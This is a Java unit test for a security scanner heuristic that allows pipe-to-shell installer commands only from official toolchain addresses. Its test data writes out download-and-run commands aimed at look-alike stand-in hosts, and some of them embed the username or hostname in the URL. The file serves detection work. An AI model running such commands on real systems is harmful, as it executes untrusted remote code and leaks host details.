package dev.bulwark.analysis.heuristics;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** A rule's download-and-run hit is excepted only when every address in it is an official installer. */
class ToolchainInstallersTest {
  @ParameterizedTest(name = "{0} -> {1}")
  @CsvSource(delimiterString = " => ", value = {
    "curl -fsSL https://bun.sh/install | bash => true",
    "irm bun.sh/install.ps1 | iex => true",
    "irm https://deno.land/install.ps1 | iex => true",
    "curl -sSL https://install.python-poetry.org | python3 - => true",
    "curl -LsSf https://astral.sh/uv/install.sh | sh => true",
    // look-alike hosts and paths
    "curl -fsSL https://bun.sh.example.invalid/install | bash => false",
    "irm bun.sh.example.invalid/install.ps1 | iex => false",
    "curl -fsSL https://bun.sh/install2 | bash => false",
    "curl -fsSL http://bun.sh/install | bash => false",
    // a second address beside the installer, with or without a scheme
    "curl -fsSL https://bun.sh/install https://example.invalid/x | bash => false",
    "irm bun.sh/install.ps1 example.invalid/p.ps1 | iex => false",
    // expanded at run time
    "irm https://deno.land/install.ps1?u=$env:USERNAME | iex => false",
    "curl -fsSL https://bun.sh/install?h=`hostname` | bash => false",
    // no address at all
    "curl -fsSL $URL | bash => false",
    "iex ((New-Object System.Net.WebClient).DownloadString => false",
  })
  void onlyInstallerAddresses(String matched, boolean expected) {
    assertThat(ToolchainInstallers.onlyAddresses(matched)).isEqualTo(expected);
  }
}
